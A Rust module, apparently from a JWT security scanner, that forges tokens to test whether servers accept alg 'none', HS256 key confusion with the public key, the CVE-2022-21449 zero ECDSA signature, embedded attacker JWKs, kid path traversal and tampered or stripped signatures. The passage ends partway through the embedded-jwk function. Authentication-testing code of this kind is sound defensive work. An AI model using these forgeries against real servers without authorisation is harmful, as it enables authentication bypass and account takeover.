//! Forged tokens for the active JWT checks: pure functions of a captured, server-issued JWS (and the
//! server's public keys). Nothing here touches the network. Each [`Forgery`] is one request the caller sends
//! to the target's probe endpoint; a server that accepts it took a token it should have refused.
//!
//! Headers are our own JSON, base64url-encoded by hand: the attack headers (`alg: "nOnE"`, an embedded
//! `jwk`, a path in `kid`) cannot be expressed with `jsonwebtoken::Header`. The original header keeps its
//! members in their order and the payload is edited as text, so apart from what an attack changes a forged
//! token is byte-for-byte the one the server issued: a rejection then points at the attack, not at some
//! re-encoding. Signatures come from `jsonwebtoken::crypto::sign`. `jku` and `x5u` are never set: a check
//! must not make the target fetch anything.

use std::fmt;

use base64::Engine;
use base64::engine::DecodePaddingMode;
use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig, URL_SAFE_NO_PAD};
use jsonwebtoken::jwk::{AlgorithmParameters, EllipticCurve, Jwk};
use jsonwebtoken::{Algorithm, EncodingKey};
use serde::de::{Deserializer, MapAccess, Visitor};
use serde::{Deserialize, Serialize};
use serde_json::Value;
use spki::der::asn1::{AnyRef, BitStringRef};
use spki::der::{Decode, Encode};
use spki::{AlgorithmIdentifierRef, ObjectIdentifier, SubjectPublicKeyInfoRef};

/// Longest token (bytes) forged from. Servers cap a whole request header block at 8–64 KiB, so a longer
/// "token" is not one a server issued, and forging from it would only multiply its size.
pub const MAX_TOKEN_LEN: usize = 64 * 1024;

/// The claim [`Attack::TamperedPayload`] adds: visible in any log, harmless to any application.
pub const TAMPER_CLAIM: &str = "authlens_tampered";

/// The `kid` of [`Attack::EmbeddedJwk`]: names the attacker's key as ours in the target's logs.
pub const ATTACKER_KID: &str = "authlens-attacker";

/// The `kid` of [`Attack::KidTraversal`]: deep enough to leave any key directory; `/dev/null` reads as an
/// empty key.
pub const TRAVERSAL_KID: &str = "../../../../../../../dev/null";

/// The spellings of `none` tried: libraries have compared `alg` case-sensitively against "none" only.
const NONE_SPELLINGS: [&str; 4] = ["none", "None", "NONE", "nOnE"];

/// Decoded header shown by [`redacted`] up to this many characters.
const REDACTED_HEADER_CHARS: usize = 512;

/// Captured tokens are read leniently (padding or not, non-zero trailing bits); forged ones are written
/// canonically (no padding).
const LENIENT: GeneralPurpose = GeneralPurpose::new(
    &base64::alphabet::URL_SAFE,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

const OID_RSA_ENCRYPTION: ObjectIdentifier = ObjectIdentifier::new_unwrap("1.2.840.113549.1.1.1");
const OID_RSASSA_PSS: ObjectIdentifier = ObjectIdentifier::new_unwrap("1.2.840.113549.1.1.10");
const OID_EC_PUBLIC_KEY: ObjectIdentifier = ObjectIdentifier::new_unwrap("1.2.840.10045.2.1");
const OID_P256: ObjectIdentifier = ObjectIdentifier::new_unwrap("1.2.840.10045.3.1.7");
const OID_P384: ObjectIdentifier = ObjectIdentifier::new_unwrap("1.3.132.0.34");
const OID_P521: ObjectIdentifier = ObjectIdentifier::new_unwrap("1.3.132.0.35");
const OID_SECP256K1: ObjectIdentifier = ObjectIdentifier::new_unwrap("1.3.132.0.10");
const OID_ED25519: ObjectIdentifier = ObjectIdentifier::new_unwrap("1.3.101.112");
const OID_ED448: ObjectIdentifier = ObjectIdentifier::new_unwrap("1.3.101.113");
const OID_X25519: ObjectIdentifier = ObjectIdentifier::new_unwrap("1.3.101.110");
const OID_X448: ObjectIdentifier = ObjectIdentifier::new_unwrap("1.3.101.111");

/// Named curves: OID, JWK `crv`, coordinate length in bytes.
static CURVES: [(ObjectIdentifier, &str, usize); 4] = [
    (OID_P256, "P-256", 32),
    (OID_P384, "P-384", 48),
    (OID_P521, "P-521", 66),
    (OID_SECP256K1, "secp256k1", 32),
];

/// What a forged token tries.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS), ts(export))]
#[serde(rename_all = "kebab-case")]
pub enum Attack {
    /// A claim added under the original header and signature.
    TamperedPayload,
    /// The original header and payload with an empty signature.
    StrippedSignature,
    /// The original signature with its last quarter cut off.
    TruncatedSignature,
    /// `alg` set to a spelling of `none`, signature empty.
    AlgNone,
    /// HS256 keyed with the server's public key (RS/ES/EdDSA → HS confusion).
    KeyConfusion,
    /// An ES256 signature of zeros (CVE-2022-21449).
    Psychic,
    /// Signed with an attacker key the header carries as `jwk`.
    EmbeddedJwk,
    /// `kid` as a path to `/dev/null`, HS256 with an empty key.
    KidTraversal,
    /// Validly re-signed (the HMAC secret is known) for another audience: is aud checked?
    WrongAudience,
}

impl Attack {
    pub const ALL: [Attack; 9] = [
        Attack::TamperedPayload,
        Attack::StrippedSignature,
        Attack::TruncatedSignature,
        Attack::AlgNone,
        Attack::KeyConfusion,
        Attack::Psychic,
        Attack::EmbeddedJwk,
        Attack::KidTraversal,
        Attack::WrongAudience,
    ];

    /// The kebab-case name, as serialized.
    pub fn as_str(self) -> &'static str {
        match self {
            Attack::TamperedPayload => "tampered-payload",
            Attack::StrippedSignature => "stripped-signature",
            Attack::TruncatedSignature => "truncated-signature",
            Attack::AlgNone => "alg-none",
            Attack::KeyConfusion => "key-confusion",
            Attack::Psychic => "psychic",
            Attack::EmbeddedJwk => "embedded-jwk",
            Attack::KidTraversal => "kid-traversal",
            Attack::WrongAudience => "wrong-audience",
        }
    }

    /// The catalogue check the attack is evidence for.
    pub fn check(self) -> &'static str {
        match self {
            Attack::TamperedPayload | Attack::StrippedSignature | Attack::TruncatedSignature => {
                "jwt.signature-checked"
            }
            Attack::AlgNone => "jwt.alg-none",
            Attack::KeyConfusion => "jwt.key-confusion",
            Attack::Psychic => "jwt.psychic",
            Attack::EmbeddedJwk | Attack::KidTraversal => "jwt.header-keys",
            Attack::WrongAudience => "jwt.audience",
        }
    }
}

/// One forged token, to be sent once to the probe endpoint.
#[derive(Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS), ts(export))]
pub struct Forgery {
    pub attack: Attack,
    /// Catalogue check id ([`Attack::check`]).
    pub check: String,
    /// Which form of the attack, e.g. `alg "nOnE"`; distinct within one check.
    pub variant: String,
    /// One sentence for reports: what was changed and what accepting it would mean.
    pub description: String,
    /// The full forged token. It carries the user's claims and replays as a credential wherever the attack
    /// works: show it through [`redacted`].
    pub token: String,
}

/// Never prints the token whole.
impl fmt::Debug for Forgery {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Forgery")
            .field("attack", &self.attack)
            .field("check", &self.check)
            .field("variant", &self.variant)
            .field("token", &redacted(&self.token))
            .finish()
    }
}

/// The kind of public key, as JWK `kty` names it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS), ts(export))]
#[serde(rename_all = "kebab-case")]
pub enum KeyFamily {
    Rsa,
    Ec,
    /// Edwards curves (Ed25519, Ed448).
    Okp,
}

/// A server's public key, as the encodings key confusion needs: everything derives from the SPKI DER.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS), ts(export))]
pub struct PublicKeyMaterial {
    /// The key's id in the JWKS; forged HS256 tokens name it so a server that picks keys by `kid` picks it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    #[cfg_attr(feature = "ts", ts(optional))]
    pub kid: Option<String>,
    pub family: KeyFamily,
    /// JWK `crv` for EC and OKP keys: `P-256`, `Ed25519`, ...
    #[serde(default, skip_serializing_if = "Option::is_none")]
    #[cfg_attr(feature = "ts", ts(optional))]
    pub curve: Option<String>,
    /// For reports: `RSA 2048-bit`, `EC P-256`, `Ed25519`.
    pub label: String,
    /// SubjectPublicKeyInfo, DER (standard base64 in JSON).
    #[serde(with = "base64_bytes")]
    #[cfg_attr(feature = "ts", ts(type = "string"))]
    pub spki_der: Vec<u8>,
    /// The PEM text exactly as given to [`PublicKeyMaterial::from_pem`] (say, as served at
    /// `/.well-known/public-key.pem`): also tried as an HMAC key when it differs from the canonical forms.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    #[cfg_attr(feature = "ts", ts(optional))]
    pub given_pem: Option<String>,
}

mod base64_bytes {
    use base64::Engine;
    use base64::engine::general_purpose::STANDARD;
    use serde::{Deserialize, Deserializer, Serializer, de::Error};

    pub fn serialize<S: Serializer>(bytes: &[u8], s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(&STANDARD.encode(bytes))
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<Vec<u8>, D::Error> {
        let s = String::deserialize(d)?;
        STANDARD.decode(s).map_err(D::Error::custom)
    }
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ForgeError {
    /// Why the value is not a compact JWS. Never quotes the token.
    #[error("not a compact JWS: {0}")]
    NotJws(String),
    #[error("the payload is not a JSON object ({0}): tampering with claims needs one")]
    PayloadNotObject(String),
    #[error("unsupported token: {0}")]
    Unsupported(String),
    #[error("public key: {0}")]
    Key(String),
    #[error("signing a forged token failed: {0}")]
    Sign(String),
}

impl ForgeError {
    pub fn code(&self) -> &'static str {
        match self {
            ForgeError::NotJws(_) => "forge.not-jws",
            ForgeError::PayloadNotObject(_) => "forge.payload-not-object",
            ForgeError::Unsupported(_) => "forge.unsupported",
            ForgeError::Key(_) => "forge.key",
            ForgeError::Sign(_) => "forge.sign",
        }
    }
}

fn key_error(what: impl fmt::Display) -> ForgeError {
    ForgeError::Key(what.to_string())
}

impl PublicKeyMaterial {
    /// A public key in PEM: SPKI (`-----BEGIN PUBLIC KEY-----`: RSA, EC, Ed25519/Ed448) or PKCS#1
    /// (`-----BEGIN RSA PUBLIC KEY-----`). The text is kept as [`PublicKeyMaterial::given_pem`].
    pub fn from_pem(text: &str) -> Result<Self, ForgeError> {
        let block = pem::parse(text).map_err(|e| key_error(format!("not PEM ({e})")))?;
        let mut key = match block.tag() {
            "PUBLIC KEY" => Self::from_spki_der(block.contents())?,
            "RSA PUBLIC KEY" => {
                let pkcs1 = pkcs1::RsaPublicKey::from_der(block.contents())
                    .map_err(|e| key_error(format!("not a PKCS#1 RSA public key ({e})")))?;
                Self::from_rsa(&pkcs1)?
            }
            "CERTIFICATE" => {
                return Err(key_error(
                    "a certificate, not a public key: extract its key (openssl x509 -pubkey -noout)",
                ));
            }
            tag if tag.contains("PRIVATE KEY") => {
                return Err(key_error(
                    "a private key: give the public key (-----BEGIN PUBLIC KEY-----)",
                ));
            }
            tag => {
                return Err(key_error(format!(
                    "PEM labelled {tag:?}, not PUBLIC KEY or RSA PUBLIC KEY"
                )));
            }
        };
        key.given_pem = Some(text.to_string());
        Ok(key)
    }

    /// A SubjectPublicKeyInfo in DER, kept byte for byte.
    pub fn from_spki_der(der: &[u8]) -> Result<Self, ForgeError> {
        let spki = SubjectPublicKeyInfoRef::try_from(der)
            .map_err(|e| key_error(format!("not a DER SubjectPublicKeyInfo ({e})")))?;
        let bits = spki
            .subject_public_key
            .as_bytes()
            .ok_or_else(|| key_error("the key bit string has unused bits"))?;
        let oid = spki.algorithm.oid;
        let (family, curve, label) = if oid == OID_RSA_ENCRYPTION || oid == OID_RSASSA_PSS {
            let rsa = pkcs1::RsaPublicKey::from_der(bits)
                .map_err(|e| key_error(format!("not an RSA public key ({e})")))?;
            (KeyFamily::Rsa, None, rsa_label(&rsa)?)
        } else if oid == OID_EC_PUBLIC_KEY {
            let curve_oid = spki
                .algorithm
                .parameters_oid()
                .map_err(|_| key_error("an EC key without a named curve"))?;
            let (_, crv, len) = CURVES
                .iter()
                .find(|(o, _, _)| *o == curve_oid)
                .ok_or_else(|| key_error(format!("unsupported EC curve {curve_oid}")))?;
            let point_ok = match bits.first() {
                Some(4) => bits.len() == 1 + 2 * len,
                Some(2 | 3) => bits.len() == 1 + len,
                _ => false,
            };
            if !point_ok {
                return Err(key_error(format!("not a {crv} point")));
            }
            (KeyFamily::Ec, Some(*crv), format!("EC {crv}"))
        } else if oid == OID_ED25519 || oid == OID_ED448 {
            let (crv, len) = if oid == OID_ED25519 {
                ("Ed25519", 32)
            } else {
                ("Ed448", 57)
            };
            if bits.len() != len {
                return Err(key_error(format!(
                    "not an {crv} key ({} bytes)",
                    bits.len()
                )));
            }
            (KeyFamily::Okp, Some(crv), crv.to_string())
        } else if oid == OID_X25519 || oid == OID_X448 {
            return Err(key_error(
                "a key-agreement key (X25519/X448), not a signing key",
            ));
        } else {
            return Err(key_error(format!("unsupported key algorithm {oid}")));
        };
        Ok(PublicKeyMaterial {
            kid: None,
            family,
            curve: curve.map(str::to_string),
            label,
            spki_der: der.to_vec(),
            given_pem: None,
        })
    }

    /// A public JWK (RSA, EC P-256/P-384/P-521, OKP Ed25519), with its `kid`. The SPKI DER is built the way
    /// servers encode their keys (canonical DER), so its PEM matches what they would serve.
    pub fn from_jwk(jwk: &Jwk) -> Result<Self, ForgeError> {
        let b64 = |name: &str, v: &str| {
            LENIENT
                .decode(v)
                .map_err(|_| key_error(format!("JWK `{name}` is not base64url")))
        };
        let mut key = match &jwk.algorithm {
            AlgorithmParameters::RSA(p) => {
                let (n, e) = (b64("n", &p.n)?, b64("e", &p.e)?);
                let rsa = pkcs1::RsaPublicKey {
                    modulus: pkcs1::UintRef::new(&n).map_err(key_error)?,
                    public_exponent: pkcs1::UintRef::new(&e).map_err(key_error)?,
                };
                Self::from_rsa(&rsa)?
            }
            AlgorithmParameters::EllipticCurve(p) => {
                let crv = match p.curve {
                    EllipticCurve::P256 => "P-256",
                    EllipticCurve::P384 => "P-384",
                    EllipticCurve::P521 => "P-521",
                    _ => {
                        return Err(key_error(
                            "JWK kty EC with a curve that is not P-256/384/521",
                        ));
                    }
                };
                let (curve_oid, _, len) = CURVES
                    .iter()
                    .find(|(_, c, _)| *c == crv)
                    .ok_or_else(|| key_error(format!("unsupported curve {crv}")))?;
                let mut point = vec![4u8];
                for (name, v) in [("x", &p.x), ("y", &p.y)] {
                    let c = b64(name, v)?;
                    // RFC 7518 wants full-length coordinates; some encoders drop leading zeros.
                    if c.len() > *len {
                        return Err(key_error(format!("JWK `{name}` is too long for {crv}")));
                    }
                    point.resize(point.len() + len - c.len(), 0);
                    point.extend_from_slice(&c);
                }
                let der = spki_der(OID_EC_PUBLIC_KEY, Some(AnyRef::from(curve_oid)), &point)?;
                Self::from_spki_der(&der)?
            }
            AlgorithmParameters::OctetKeyPair(p) => {
                if p.curve != EllipticCurve::Ed25519 {
                    return Err(key_error("JWK kty OKP with a curve other than Ed25519"));
                }
                let x = b64("x", &p.x)?;
                Self::from_spki_der(&spki_der(OID_ED25519, None, &x)?)?
            }
            AlgorithmParameters::OctetKey(_) => {
                return Err(key_error(
                    "a symmetric (oct) JWK: it has no public half to confuse",
                ));
            }
            _ => return Err(key_error("unsupported JWK kty")),
        };
        key.kid = jwk.common.key_id.clone();
        Ok(key)
    }

    pub fn with_kid(mut self, kid: impl Into<String>) -> Self {
        self.kid = Some(kid.into());
        self
    }

    fn from_rsa(rsa: &pkcs1::RsaPublicKey<'_>) -> Result<Self, ForgeError> {
        let pkcs1 = rsa.to_der().map_err(key_error)?;
        Self::from_spki_der(&spki_der(OID_RSA_ENCRYPTION, Some(AnyRef::NULL), &pkcs1)?)
    }

    /// The SPKI PEM as OpenSSL, Node, Java and the RustCrypto crates write it: 64-character lines, LF, a
    /// final newline.
    pub fn spki_pem(&self) -> String {
        pem_text("PUBLIC KEY", &self.spki_der)
    }

    /// PKCS#1 `RSAPublicKey` DER (RSA keys only): the bit string inside the SPKI.
    pub fn pkcs1_der(&self) -> Option<Vec<u8>> {
        if self.family != KeyFamily::Rsa {
            return None;
        }
        let spki = SubjectPublicKeyInfoRef::try_from(self.spki_der.as_slice()).ok()?;
        spki.subject_public_key.as_bytes().map(<[u8]>::to_vec)
    }

    /// `-----BEGIN RSA PUBLIC KEY-----` (RSA keys only), formatted like [`PublicKeyMaterial::spki_pem`].
    pub fn pkcs1_pem(&self) -> Option<String> {
        self.pkcs1_der().map(|der| pem_text("RSA PUBLIC KEY", &der))
    }

    /// The byte strings a server confusing this key for an HMAC secret may use, each with a name for the
    /// report: SPKI PEM with and without its final newline, PKCS#1 PEM likewise (RSA), SPKI DER, and the
    /// PEM exactly as given when it is none of those.
    pub fn hmac_secrets(&self) -> Vec<(String, Vec<u8>)> {
        let mut out: Vec<(String, Vec<u8>)> = Vec::new();
        let mut pem_forms = |name: &str, pem: String| {
            out.push((
                format!("public key as PEM ({name}) with final newline"),
                pem.clone().into_bytes(),
            ));
            out.push((
                format!("public key as PEM ({name}) without final newline"),
                pem.trim_end_matches('\n').as_bytes().to_vec(),
            ));
        };
        pem_forms("SPKI", self.spki_pem());
        if let Some(pem) = self.pkcs1_pem() {
            pem_forms("PKCS#1", pem);
        }
        out.push((
            "public key as DER (SPKI)".to_string(),
            self.spki_der.clone(),
        ));
        if let Some(given) = &self.given_pem
            && !out.iter().any(|(_, s)| s == given.as_bytes())
        {
            out.push((
                "public key PEM exactly as given".to_string(),
                given.as_bytes().to_vec(),
            ));
        }
        out
    }
}

fn rsa_label(rsa: &pkcs1::RsaPublicKey<'_>) -> Result<String, ForgeError> {
    let n = rsa.modulus.as_bytes();
    let Some(first) = n.first() else {
        return Err(key_error("an RSA key with a zero modulus"));
    };
    let bits = n.len() * 8 - first.leading_zeros() as usize;
    Ok(format!("RSA {bits}-bit"))
}

fn spki_der(
    oid: ObjectIdentifier,
    parameters: Option<AnyRef<'_>>,
    key: &[u8],
) -> Result<Vec<u8>, ForgeError> {
    SubjectPublicKeyInfoRef {
        algorithm: AlgorithmIdentifierRef { oid, parameters },
        subject_public_key: BitStringRef::from_bytes(key).map_err(key_error)?,
    }
    .to_der()
    .map_err(key_error)
}

fn pem_text(tag: &str, der: &[u8]) -> String {
    pem::encode_config(
        &pem::Pem::new(tag, der),
        pem::EncodeConfig::new()
            .set_line_ending(pem::LineEnding::LF)
            .set_line_wrap(64),
    )
}

/// A JSON object with its members in their original order (serde_json's map sorts them), duplicates kept.
#[derive(Debug, Clone, Default, PartialEq)]
struct Members(Vec<(String, Value)>);

impl<'de> Deserialize<'de> for Members {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct V;
        impl<'de> Visitor<'de> for V {
            type Value = Members;
            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("a JSON object")
            }
            fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Members, A::Error> {
                let mut out = Vec::new();
                while let Some(entry) = map.next_entry::<String, Value>()? {
                    out.push(entry);
                }
                Ok(Members(out))
            }
        }
        d.deserialize_map(V)
    }
}

impl Members {
    /// The last occurrence, as serde_json and most JSON parsers read a duplicate.
    fn get(&self, key: &str) -> Option<&Value> {
        self.0.iter().rev().find(|(k, _)| k == key).map(|(_, v)| v)
    }

    /// Replaces the member in its place (dropping duplicates) or appends it.
    fn set(&mut self, key: &str, value: Value) {
        match self.0.iter().position(|(k, _)| k == key) {
            Some(i) => {
                self.0[i].1 = value;
                let mut seen = 0;
                self.0.retain(|(k, _)| {
                    if k == key {
                        seen += 1;
                        seen == 1
                    } else {
                        true
                    }
                });
            }
            None => self.0.push((key.to_string(), value)),
        }
    }

    fn with(mut self, key: &str, value: Value) -> Self {
        self.set(key, value);
        self
    }

    /// Compact JSON. `Value`'s `Display` is serde_json's infallible compact writer.
    fn to_json(&self) -> String {
        let mut s = String::from("{");
        for (i, (k, v)) in self.0.iter().enumerate() {
            if i > 0 {
                s.push(',');
            }
            s.push_str(&Value::String(k.clone()).to_string());
            s.push(':');
            s.push_str(&v.to_string());
        }
        s.push('}');
        s
    }

    fn segment(&self) -> String {
        URL_SAFE_NO_PAD.encode(self.to_json())
    }
}

/// The captured token, split and decoded.
struct Parsed<'a> {
    header_b64: &'a str,
    payload_b64: &'a str,
    signature_b64: &'a str,
    header: Members,
    /// The payload as the server wrote it.
    payload_json: String,
    claims: serde_json::Map<String, Value>,
}

/// JSON whose top level is not an object, named without quoting it (a string payload may be a secret).
fn json_kind(v: &Value) -> &'static str {
    match v {
        Value::Null => "null",
        Value::Bool(_) => "a boolean",
        Value::Number(_) => "a number",
        Value::String(_) => "a string",
        Value::Array(_) => "an array",
        Value::Object(_) => "an object",
    }
}

impl<'a> Parsed<'a> {
    fn new(token: &'a str) -> Result<Self, ForgeError> {
        let not_jws = ForgeError::NotJws;
        let token = token.trim_matches(|c: char| c.is_ascii_whitespace());
        if token.is_empty() {
            return Err(not_jws("the value is empty".into()));
        }
        if token.len() > MAX_TOKEN_LEN {
            return Err(not_jws(format!(
                "{} bytes, more than the {} KiB a server-issued bearer token can be",
                token.len(),
                MAX_TOKEN_LEN / 1024
            )));
        }
        let segments: Vec<&str> = token.split('.').collect();
        let [header_b64, payload_b64, signature_b64] = segments[..] else {
            return Err(not_jws(match segments.len() {
                5 => {
                    "5 segments: an encrypted token (JWE), whose claims cannot be changed without \
                      its key"
                        .to_string()
                }
                n => format!("{n} segment(s); a compact JWS has 3 (header.payload.signature)"),
            }));
        };
        for (name, s) in [
            ("header", header_b64),
            ("payload", payload_b64),
            ("signature", signature_b64),
        ] {
            if let Some(c) = s
                .chars()
                .find(|&c| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '=')))
            {
                return Err(not_jws(format!(
                    "the {name} has a character outside base64url ('{}')",
                    c.escape_default()
                )));
            }
        }
        if header_b64.is_empty() {
            return Err(not_jws("the header segment is empty".into()));
        }
        let header_bytes = LENIENT
            .decode(header_b64)
            .map_err(|_| not_jws("the header is not valid base64url".into()))?;
        let header_value: Value = serde_json::from_slice(&header_bytes)
            .map_err(|e| not_jws(format!("the header is not JSON ({e})")))?;
        if !header_value.is_object() {
            return Err(not_jws(format!(
                "the header is {}, not a JSON object",
                json_kind(&header_value)
            )));
        }
        let header: Members = serde_json::from_slice(&header_bytes)
            .map_err(|e| not_jws(format!("the header is not a JSON object ({e})")))?;
        if header.get("b64") == Some(&Value::Bool(false)) {
            return Err(ForgeError::Unsupported(
                "an unencoded payload (b64: false, RFC 7797)".into(),
            ));
        }
        let payload = LENIENT
            .decode(payload_b64)
            .map_err(|_| not_jws("the payload is not valid base64url".into()))?;
        LENIENT
            .decode(signature_b64)
            .map_err(|_| not_jws("the signature is not valid base64url".into()))?;
        let payload_json = String::from_utf8(payload)
            .map_err(|_| ForgeError::PayloadNotObject("it is not UTF-8".into()))?;
        let claims = match serde_json::from_str::<Value>(&payload_json) {
            Ok(Value::Object(m)) => m,
            Ok(other) => {
                return Err(ForgeError::PayloadNotObject(format!(
                    "it is {}",
                    json_kind(&other)
                )));
            }
            Err(e) => return Err(ForgeError::PayloadNotObject(format!("not JSON: {e}"))),
        };
        Ok(Parsed {
            header_b64,
            payload_b64,
            signature_b64,
            header,
            payload_json,
            claims,
        })
    }

    fn header_str(&self, key: &str) -> Option<&str> {
        self.header.get(key).and_then(Value::as_str)
    }

    /// A header of our own: `alg`, then the original `typ` if there is one.
    fn fresh_header(&self, alg: &str) -> Members {
        let mut m = Members(vec![("alg".into(), Value::from(alg))]);
        if let Some(typ) = self.header.get("typ") {
            m.set("typ", typ.clone());
        }
        m
    }
}

fn sign_segment(input: &str, key: &EncodingKey, alg: Algorithm) -> Result<String, ForgeError> {
    jsonwebtoken::crypto::sign(input.as_bytes(), key, alg)
        .map_err(|e| ForgeError::Sign(e.to_string()))
}

fn forgery(attack: Attack, variant: String, description: String, token: String) -> Forgery {
    Forgery {
        attack,
        check: attack.check().to_string(),
        variant,
        description,
        token,
    }
}

/// Every forgery for `token`, a server-issued compact JWS with a JSON-object payload, in a stable order:
/// jwt.signature-checked (tampered, stripped, truncated), jwt.alg-none (four spellings), jwt.key-confusion
/// (per key in `keys` and encoding; none without keys), jwt.psychic, jwt.header-keys (embedded jwk, kid
/// traversal). The embedded-jwk token is signed with a key made for the call, so it differs between calls.
pub fn forgeries(token: &str, keys: &[PublicKeyMaterial]) -> Result<Vec<Forgery>, ForgeError> {
    let t = Parsed::new(token)?;
    let mut out = vec![tampered(&t)];
    out.extend(stripped(&t));
    out.extend(truncated(&t));
    out.extend(alg_none(&t));
    out.extend(key_confusion(&t, keys)?);
    out.push(psychic(&t, keys));
    out.push(embedded_jwk(&t)?);
    out.extend(embedded_jwk_same_alg(&t)?);
    out.push(kid_traversal(&t)?);
    Ok(out)
}

/// The payload with [`TAMPER_CLAIM`] set. When absent (the usual case) it is inserted as text before the
/// closing brace, so every other claim keeps its exact bytes; when present it is flipped (true → false,
/// anything else → true) and the object re-written in its order.
fn tampered_payload(t: &Parsed<'_>) -> String {
    let body = t.payload_json.trim_end_matches([' ', '\t', '\n', '\r']);
    let trailing = &t.payload_json[body.len()..];
    if t.claims.get(TAMPER_CLAIM).is_none()
        && let Some(inner) = body.strip_suffix('}')
    {
        let sep = if t.claims.is_empty() { "" } else { "," };
        return format!("{inner}{sep}\"{TAMPER_CLAIM}\":true}}{trailing}");
    }
    let flipped = t.claims.get(TAMPER_CLAIM) != Some(&Value::Bool(true));
    let members: Members = serde_json::from_str(&t.payload_json).unwrap_or_default();
    members.with(TAMPER_CLAIM, Value::Bool(flipped)).to_json()
}

fn tampered(t: &Parsed<'_>) -> Forgery {
    let payload = URL_SAFE_NO_PAD.encode(tampered_payload(t));
    forgery(
        Attack::TamperedPayload,
        format!("claim \"{TAMPER_CLAIM}\" added, original signature"),
        format!(
            "The payload gained the claim \"{TAMPER_CLAIM}\" under the original header and signature: \
             accepting it means the server does not verify signatures, so anyone can rewrite claims."
        ),
        format!("{}.{payload}.{}", t.header_b64, t.signature_b64),
    )
}

fn stripped(t: &Parsed<'_>) -> Option<Forgery> {
    // Already unsigned: the alg-none tokens cover it.
    if t.signature_b64.is_empty() {
        return None;
    }
    Some(forgery(
        Attack::StrippedSignature,
        "signature removed".into(),
        "The original header and payload with an empty signature: accepting it means the server \
         does not require a signature at all."
            .into(),
        format!("{}.{}.", t.header_b64, t.payload_b64),
    ))
}

/// About three quarters of the signature, cut at a 4-character boundary so it still decodes (to a prefix of
/// the signature bytes): a server rejecting it must do so for the signature, not for its base64.
fn truncated(t: &Parsed<'_>) -> Option<Forgery> {
    let sig = t.signature_b64.trim_end_matches('=');
    let len = sig.len();
    if len < 2 {
        return None;
    }
    let mut keep = len * 3 / 4 / 4 * 4;
    if keep == 0 {
        keep = len - 1;
    }
    Some(forgery(
        Attack::TruncatedSignature,
        format!("signature cut from {len} to {keep} characters"),
        format!(
            "The original token with its signature cut from {len} to {keep} characters: accepting it \
             means the server checks only part of the signature, or none of it."
        ),
        format!("{}.{}.{}", t.header_b64, t.payload_b64, &sig[..keep]),
    ))
}

fn alg_none(t: &Parsed<'_>) -> Vec<Forgery> {
    NONE_SPELLINGS
        .iter()
        .map(|alg| {
            let header = t.header.clone().with("alg", Value::from(*alg));
            forgery(
                Attack::AlgNone,
                format!("alg \"{alg}\""),
                format!(
                    "The header's alg set to \"{alg}\" and the signature removed: accepting it means \
                     the server takes unsigned tokens, so anyone can mint any claims."
                ),
                format!("{}.{}.", header.segment(), t.payload_b64),
            )
        })
        .collect()
}

fn key_confusion(t: &Parsed<'_>, keys: &[PublicKeyMaterial]) -> Result<Vec<Forgery>, ForgeError> {
    let mut unique: Vec<&PublicKeyMaterial> = Vec::new();
    for k in keys {
        if !unique
            .iter()
            .any(|u| u.spki_der == k.spki_der && u.kid == k.kid)
        {
            unique.push(k);
        }
    }
    let mut out = Vec::new();
    for (i, key) in unique.iter().enumerate() {
        let mut header = t.header.clone().with("alg", Value::from("HS256"));
        // A server that picks its key by kid must pick this one.
        if let Some(kid) = &key.kid {
            header.set("kid", Value::from(kid.as_str()));
        }
        let input = format!("{}.{}", header.segment(), t.payload_b64);
        let who = match &key.kid {
            Some(kid) => format!("{} key \"{kid}\"", key.label),
            None if unique.len() > 1 => format!("{} key #{}", key.label, i + 1),
            None => format!("{} key", key.label),
        };
        for (encoding, secret) in key.hmac_secrets() {
            let sig = sign_segment(&input, &EncodingKey::from_secret(&secret), Algorithm::HS256)?;
            let variant = if unique.len() > 1 {
                format!("{encoding}; {who}")
            } else {
                encoding.clone()
            };
            out.push(forgery(
                Attack::KeyConfusion,
                variant,
                format!(
                    "Signed HS256 with the server's {who} ({encoding}) as the HMAC secret: accepting \
                     it means anyone holding the public key can mint tokens."
                ),
                format!("{input}.{sig}"),
            ));
        }
    }
    Ok(out)
}

/// alg ES256 with a signature of 64 zero bytes (r = s = 0), which Java 15–18's ECDSA accepted for any
/// message and key. The kid stays unless the token is not ES-signed and a P-256 key with a kid is known:
/// then that kid, so a server picking keys by kid reaches its ECDSA verifier.
fn psychic(t: &Parsed<'_>, keys: &[PublicKeyMaterial]) -> Forgery {
    let mut header = t.header.clone().with("alg", Value::from("ES256"));
    let es_signed = t.header_str("alg").is_some_and(|a| a.starts_with("ES"));
    if !es_signed
        && let Some(kid) = keys
            .iter()
            .filter(|k| k.curve.as_deref() == Some("P-256"))
            .find_map(|k| k.kid.as_deref())
    {
        header.set("kid", Value::from(kid));
    }
    let sig = URL_SAFE_NO_PAD.encode([0u8; 64]);
    forgery(
        Attack::Psychic,
        "ES256 signature of 64 zero bytes (r = s = 0)".into(),
        "An ES256 signature of 64 zero bytes (CVE-2022-21449, \"psychic signatures\"): accepting it \
         means the server's ECDSA verifier accepts a signature that is valid for every message."
            .into(),
        format!("{}.{}.{sig}", header.segment(), t.payload_b64),
    )
}

fn embedded_jwk(t: &Parsed<'_>) -> Result<Forgery, ForgeError> {
    use p256::elliptic_curve::sec1::ToEncodedPoint;
    use p256::pkcs8::EncodePrivateKey;

